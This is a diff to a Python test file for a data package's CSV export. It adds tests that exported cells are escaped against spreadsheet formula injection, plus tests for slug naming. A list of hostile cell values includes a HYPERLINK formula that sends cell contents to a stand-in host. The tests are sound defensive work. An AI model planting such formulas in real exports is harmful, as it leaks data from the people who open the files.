@@ -10,12 +10,17 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from popest.study import PopestError, Study, load_study, study_from_texts
 from popest.study.drafts import added
 from popest.study.exchange import exported, write_texts
-from popest.study.ledger import Draft, Ledger
+from popest.study.formulas import escaped, unescaped
+from popest.study.ledger import Ledger
+from popest.study.new_rows import Draft
 from popest.study.records import COLUMNS
+from popest.study.slugs import slug
 from popest.study.spreadsheet import read_spreadsheet
 
 STUDIES = ("serbia", "serbia-report-2024")
@@ -152,6 +157,11 @@ def package(study: Study) -> tuple[dict[str, Any], dict[str, bytes]]:
     return json.loads(texts["datapackage.json"]), {k: v.encode() for k, v in texts.items()}
 
 
+def plain(text: str) -> str:
+    """Return an exported table without the apostrophes before what a spreadsheet works out."""
+    return re.sub(r"(^|,)(\"?)'(?=[=+@-])", r"\1\2", text, flags=re.MULTILINE)
+
+
 def corrected(folder: Path) -> Study:
     study = load_study(folder)
     return study.with_observation(
@@ -207,7 +217,7 @@ def test_a_broken_descriptor_is_seen(
 @pytest.mark.parametrize("name", STUDIES)
 def test_the_table_is_read_as_the_study_again(name: str) -> None:
     study = load_study(name)
-    text = exported(study, "csv")["observations.csv"]
+    text = plain(exported(study, "csv")["observations.csv"])
     again = study_from_texts(name, study.specification_text, text)
     assert again.observations == study.observations
     assert text == study.observations_text
@@ -230,6 +240,81 @@ def test_a_spreadsheet_round_trip_gives_the_same_rows(
     later = date(2026, 11, 23)
     again = ledger.with_rows(added(ledger, drafts, later))
     assert again.content.rows == study.observations
+
+
+HOSTILE = [
+    '=HYPERLINK("https://x.example?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    " =1",
+    "\uff1d1+1",
+    "'=1",
+    "''+x",
+    "'plain",
+    "-10",
+    "-10 of them",
+    '"=1"',
+]
+
+
+def test_no_cell_of_an_export_is_a_formula_and_every_cell_comes_back(
+    folder: Path, tmp_path: Path
+) -> None:
+    """What a spreadsheet would work out begins, in the file, with an apostrophe."""
+    ledger = Ledger.read(folder)
+    rows = [
+        Draft({"source": "experts", "value": "7", "use": "no", "publisher": f"P{n}", "note": text})
+        for n, text in enumerate(HOSTILE)
+    ]
+    addition = ledger.with_rows(added(ledger, rows, date(2024, 6, 1)))
+    study = study_from_texts("x", ledger.specification.text, addition.observations.text)
+    for form in ("csv", "datapackage"):
+        text = exported(study, form)["observations.csv"]
+        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+        dangerous = [cell for cell in cells if re.match(r"\s*[=+@\uff1d-]|\s+=|\t", cell)]
+        assert {cell for cell in dangerous if not re.fullmatch("-[0-9]+", cell)} == set()
+        (tmp_path / "out.csv").write_bytes(text.encode())
+        drafts = read_spreadsheet(tmp_path / "out.csv")
+        notes = {draft.cells["publisher"]: draft.cells["note"] for draft in drafts}
+        # An import takes blanks off the ends of cells, whoever wrote them.
+        assert [notes[f"P{n}"].strip() for n in range(len(HOSTILE))] == [
+            note.strip() for note in HOSTILE
+        ]
+        sums = {draft.cells["id"]: draft.cells["derived_from"] for draft in drafts}
+        assert sums["PER03"] == "+PER02 -PER01"
+        assert faults_of_package(*package(study)) == []
+
+
+@given(st.text())
+def test_every_text_comes_back_from_its_escape(text: str) -> None:
+    assert unescaped(escaped(text)) == text
+
+
+@pytest.mark.parametrize(
+    ("name", "words"),
+    [
+        ("Руси у Србији", "rusi-u-srbiji-"),  # noqa: RUF001
+        ("Ђаци", "djatsi-"),
+        ("объект", "obekt-"),
+        ("Český Krumlov", "cesky-krumlov-"),
+        ("中国", "study-"),
+        ("...", "study-"),
+        ("CON", "con-"),
+    ],
+)
+def test_a_package_has_a_name_in_any_script(folder: Path, name: str, words: str) -> None:
+    study = load_study(folder.rename(folder.with_name(name)))
+    descriptor, files = package(study)
+    assert descriptor["name"].startswith(words) and len(descriptor["name"]) <= 64
+    assert faults_of_package(descriptor, files) == []
+
+
+def test_two_studies_do_not_share_the_name_of_a_package() -> None:
+    names = ["a", "A", "a b", "a-b", "Ш", "ш", "Sh", "sh", "中", "国", "x" * 70, "x" * 71]
+    assert len({slug(name) for name in names}) == len(names)
+    assert [slug(name) for name in ("serbia-2024", "a.b_c")] == ["serbia-2024", "a.b_c"]
 
 
 def test_json_tells_everything(folder: Path) -> None:
